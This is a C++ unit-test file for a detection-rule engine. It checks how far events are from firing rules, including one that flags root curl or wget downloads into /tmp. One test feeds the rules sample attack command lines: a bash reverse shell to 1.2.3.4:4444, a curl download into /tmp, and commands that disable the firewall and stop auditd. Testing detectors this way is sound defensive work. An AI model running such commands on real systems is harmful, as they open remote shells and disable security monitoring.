#include "pipeline_core/explain/rule_distance.h"

#include <gtest/gtest.h>

#include <bit>
#include <random>

#include "pipeline_core/rules/rule_explanation.h"
#include "pipeline_core/rules/rule_reader.h"
#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

constexpr std::string_view kDownloadRule =
    "title: Download that is run\nlogsource: {product: linux, category: process_creation}\n"
    "detection:\n"
    "  tool: {Image|endswith: [/curl, /wget]}\n"
    "  target: {CommandLine|contains: /tmp/, User: root}\n"
    "  wanted: {CommandLine|contains: update}\n"
    "  condition: tool and target and not wanted\n";

struct RuleAndReader {
  RuleSet rules;
  std::vector<Diagnostic> diagnostics;
  FieldReader reader;
  explicit RuleAndReader(std::string_view yaml) : reader(nullptr) {
    RuleReader(rules, diagnostics).read(yaml, "r.yml");
    rules.resolve(diagnostics);
    EXPECT_TRUE(diagnostics.empty());
    reader = FieldReader(&rules.fields());
  }
};

std::vector<std::string> lacks_of(RuleAndReader& loaded, const RuleDistance& distance) {
  std::vector<std::string> out;
  for (const Lack& lack : distance.lacks) {
    const LackText text = text_of(loaded.rules, lack, loaded.reader);
    out.push_back(lack.search + ": " + text.field + ' ' + text.wanted + " <- " + text.found);
  }
  return out;
}

// One of two images, two tests of the target, none of the filter: of an event with the image and the user alone the
// command line is missing, and of one that an update explains the filter is in the way too.
TEST(RuleDistance, names_what_an_event_lacks_and_what_is_in_the_way) {
  RuleAndReader loaded(kDownloadRule);
  const auto event = FlatEvent::from_json(R"({"Image": "/bin/wget", "CommandLine": "wget update", "User": "root"})");
  loaded.reader.reset(event.value());
  const RuleDistance distance = distance_of(loaded.rules, 0, loaded.reader);
  EXPECT_EQ(distance.failed, 2U);
  EXPECT_EQ(distance.held, 2U);
  EXPECT_EQ(lacks_of(loaded, distance),
            (std::vector<std::string>{"target: CommandLine like '*/tmp/*' <- 'wget update'",
                                      "wanted: CommandLine not like '*update*' <- 'wget update'"}));
}

TEST(RuleDistance, is_zero_for_an_event_that_fires_and_says_that_a_field_is_missing) {
  RuleAndReader loaded(kDownloadRule);
  const auto fires = FlatEvent::from_json(R"({"Image": "/bin/curl", "CommandLine": "curl -o /tmp/a", "User": "root"})");
  loaded.reader.reset(fires.value());
  EXPECT_EQ(distance_of(loaded.rules, 0, loaded.reader).failed, 0U);
  EXPECT_TRUE(holds(loaded.rules, 0, loaded.reader));

  const auto bare = FlatEvent::from_json(R"({"Image": "/bin/curl", "User": "root"})");
  loaded.reader.reset(bare.value());
  EXPECT_EQ(lacks_of(loaded, distance_of(loaded.rules, 0, loaded.reader)),
            std::vector<std::string>{"target: CommandLine like '*/tmp/*' <- the event has no such field"});
}

TEST(RuleDistance, puts_fewer_failed_tests_first_and_then_more_that_hold) {
  EXPECT_LT((RuleDistance{1, 0, {}}), (RuleDistance{2, 9, {}}));
  EXPECT_LT((RuleDistance{1, 3, {}}), (RuleDistance{1, 2, {}}));
  EXPECT_EQ((RuleDistance{1, 2, {}}), (RuleDistance{1, 2, {}}));
}

TEST(RuleDistance, knows_a_condition_that_nothing_can_meet) {
  Expression never = Expression::negated(Expression{});
  EXPECT_EQ(distance_of(never, [](std::uint32_t) { return true; }).failed, RuleDistance::kNever);
  const Expression both = Expression::joined(Expression::Kind::kAnd, {Expression::of(0), never});
  EXPECT_EQ(distance_of(both, [](std::uint32_t) { return false; }).failed, RuleDistance::kNever);
  const Expression either = Expression::joined(Expression::Kind::kOr, {never, Expression::of(0)});
  EXPECT_EQ(distance_of(either, [](std::uint32_t) { return false; }).failed, 1U);
}

/// A random tree in which each of `leaves` tests stands once.
Expression random_tree(std::mt19937& random, std::uint32_t first, std::uint32_t leaves) {
  if (leaves == 1) {
    Expression leaf = Expression::of(first);
    return random() % 3 == 0 ? Expression::negated(std::move(leaf)) : leaf;
  }
  std::vector<Expression> parts;
  for (std::uint32_t at = 0; at < leaves;) {
    const std::uint32_t take = std::min<std::uint32_t>(leaves - at, 1 + random() % (leaves - 1));
    parts.push_back(random_tree(random, first + at, take));
    at += take;
  }
  Expression joined = Expression::joined(random() % 2 == 0 ? Expression::Kind::kAnd : Expression::Kind::kOr, std::move(parts));
  return random() % 4 == 0 ? Expression::negated(std::move(joined)) : joined;
}

// Independent truth: among all 2^n outcomes of n tests, the one nearest to the event's that makes the condition hold,
// by the number of tests that differ. And the lacks are such tests: with them turned round the condition holds.
TEST(RuleDistance, is_the_least_number_of_tests_to_change_for_every_condition_and_event) {
  std::mt19937 random(7);
  for (int round = 0; round < 400; ++round) {
    const std::uint32_t leaves = 1 + random() % 9;
    const Expression tree = random_tree(random, 0, leaves);
    const std::uint32_t event = random() % (1U << leaves);
    std::uint32_t nearest = RuleDistance::kNever;
    for (std::uint32_t other = 0; other < 1U << leaves; ++other) {
      if (!evaluate(tree, [&](std::uint32_t p) { return (other >> p & 1) != 0; })) continue;
      nearest = std::min(nearest, static_cast<std::uint32_t>(std::popcount(other ^ event)));
    }
    const RuleDistance distance = distance_of(tree, [&](std::uint32_t p) { return (event >> p & 1) != 0; });
    ASSERT_EQ(distance.failed, nearest) << "round " << round;
    ASSERT_EQ(distance.lacks.size(), nearest);
    std::uint32_t changed = event;
    for (const Lack& lack : distance.lacks) {
      ASSERT_NE((event >> lack.predicate & 1) != 0, lack.wanted);
      changed ^= 1U << lack.predicate;
    }
    ASSERT_TRUE(evaluate(tree, [&](std::uint32_t p) { return (changed >> p & 1) != 0; }));
  }
}

TEST(RuleDistance, is_zero_exactly_where_own_rules_fire) {
  PipelineContent::Builder builder;
  testing_support::add_own_rules(builder);
  const auto content = builder.build();
  const RuleSet& rules = content->rules();
  TextTable texts;
  FieldReader reader(&rules.fields());
  std::size_t fired = 0;
  for (const char* line : {"bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "ufw disable", "nohup /tmp/x", "id", "",
                           "curl http://1.2.3.4/a -o /tmp/a", "systemctl stop auditd"}) {
    const Observation o = testing_support::exec(texts, testing_support::kStart, line);
    reader.reset(o, texts);
    for (std::uint32_t i = 0; i < rules.rules().size(); ++i) {
      if (rules.rules()[i].is_correlation) continue;
      const bool fires = holds(rules, i, reader);
      fired += fires ? 1 : 0;
      EXPECT_EQ(distance_of(rules, i, reader).failed == 0, fires) << rules.rules()[i].title << ": " << line;
    }
  }
  EXPECT_GT(fired, 3U);
}

}  // namespace
}  // namespace picket
